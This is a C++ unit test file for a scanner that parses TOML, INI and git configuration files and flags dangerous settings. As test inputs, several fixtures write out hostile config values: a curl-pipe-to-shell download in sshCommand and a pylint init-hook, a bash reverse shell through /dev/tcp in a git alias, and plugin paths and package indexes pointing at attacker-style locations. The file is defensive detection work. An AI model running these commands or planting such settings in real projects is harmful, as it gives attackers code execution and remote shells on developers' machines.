#include "scanner/formats/settings/settings_reader.hpp"
#include "tests/support/quiet.hpp"
#include "tests/support/scan_bytes.hpp"

#include <gtest/gtest.h>

namespace hubgate {
namespace {

using test::find_rule;
using test::is_quiet;
using test::scan_bytes;
using test::show;

struct Heard final : settings::Listener {
  void on_setting(std::string_view path, std::string_view value, std::uint64_t) override {
    text += std::string(path) + "=" + std::string(value) + ";";
  }
  std::string text;
};

std::string read(std::string_view text) {
  Heard heard;
  settings::read_settings(text, heard);
  return heard.text;
}

TEST(Settings, toml_ini_and_git_are_read) {
  EXPECT_EQ(read("[tool.x]\na = 1 # note\nb = \"two\" # note\n'c d' = 'e'\n"),
            "tool.x.a=1;tool.x.b=two;tool.x.c.d=e;");
  EXPECT_EQ(read("[a]\nlist = [\n  \"x\", # one\n  \"y,z\",\n]\nt = {u = \"v\", w = [\"1\"]}\n"),
            "a.list=x;a.list=y,z;a.t.u=v;a.t.w=1;");
  EXPECT_EQ(read("[[tool.uv.index]]\nurl = \"x\"\n[a.\"b.c\"]\nd = '''\nline\n'''\n"),
            "tool.uv.index.url=x;a.b.c.d=\nline\n;");
  EXPECT_EQ(read("[mypy]\nplugins =\n    a.b,\n    c.d\nx: y\n"),
            "mypy.plugins=a.b,\nc.d;mypy.x=y;");
  EXPECT_EQ(read("[core]\n\tfsmonitor = \"a\"b\n[filter \"x\"]\n\tclean = one \\\n  two\n"),
            "core.fsmonitor=ab;filter.x.clean=one two;");
}

TEST(Settings, lists_that_never_close_cost_no_more_than_the_text) {
  std::string text;
  for (int i = 0; i < 200000; ++i)
    text += "a=[\n";
  EXPECT_FALSE(read(text).empty());
}

TEST(Settings, each_rule_once) {
  const std::vector<std::tuple<std::string, std::string_view, Severity>> cases{
      {"[core]\n\tfsmonitor = \"./run.sh; true\"\n", "settings-command", Severity::suspicious},
      {"[core]\nsshCommand = sh -c 'curl http://127.0.0.1/x | sh'\n", "shell-download-run",
       Severity::malicious},
      {"[filter \"z\"]\nsmudge = ./z\n", "settings-command", Severity::suspicious},
      {"[filter \"lfs\"]\nsmudge = git-lfs smudge -- %f\n", "settings-command",
       Severity::informational},
      {"[alias]\nx = !sh -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'\n", "shell-remote-control",
       Severity::suspicious},
      {"[build]\nrustc-wrapper = \"./w.sh\"\n", "settings-command", Severity::suspicious},
      {"[tool.poetry.build]\nscript = \"build.py\"\n", "settings-code", Severity::informational},
      {"[build-system]\nbackend-path = [\"../x\"]\n", "settings-code-outside",
       Severity::suspicious},
      {"[tool.poe.tasks]\na = \"pytest\"\n", "settings-task", Severity::informational},
      {"[mypy]\nplugins = numpy.typing.mypy_plugin, ../evil.py\n", "settings-code-outside",
       Severity::suspicious},
      {"[tool:pytest]\naddopts = -q -p evil_plugin\n", "settings-code", Severity::informational},
      {"[options.cmdclass]\ninstall = os.system\n", "settings-code", Severity::malicious},
      {"[global]\nindex-url = http://127.0.0.1/simple\n", "settings-index", Severity::suspicious},
      {"registry=https://packages.example.test/\n", "settings-index", Severity::informational}};
  for (const auto& [text, rule, severity]: cases) {
    const Report report = scan_bytes(text);
    bool seen = false;
    for (const Finding& finding: report.findings)
      if (finding.rule == rule && finding.severity == severity) {
        seen = true;
        EXPECT_FALSE(finding.condition.empty());
      }
    EXPECT_TRUE(seen) << text << show(report);
  }
}

TEST(Settings, code_in_a_setting_is_read_as_code) {
  const Report report = scan_bytes("[MASTER]\ninit-hook = import os\n  os.system('curl "
                                   "http://127.0.0.1/x | sh')\n");
  const Finding* hook = find_rule(report, "settings-code");
  ASSERT_NE(hook, nullptr) << show(report);
  bool inside = false;
  for (const Finding& finding: report.findings)
    inside = inside || finding.where.find("init-hook.py") != std::string::npos;
  EXPECT_TRUE(inside) << show(report);
}

TEST(Settings, honest_files_are_quiet) {
  for (const std::string_view text:
       {"[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n"
        "[project]\nname = \"x\"\n[tool.pytest.ini_options]\naddopts = \"-ra -q\"\n",
        "[metadata]\nname = x\n[options]\npackages = find:\n[flake8]\nmax-line-length = 100\n",
        "[core]\n\tfsmonitor = true\n\tautocrlf = input\n[user]\n\tname = A\n"}) {
    const Report report = scan_bytes(text);
    EXPECT_TRUE(is_quiet(report, {"settings-"})) << text << show(report);
    EXPECT_EQ(find_rule(report, "settings-command"), nullptr);
  }
}

} // namespace
} // namespace hubgate
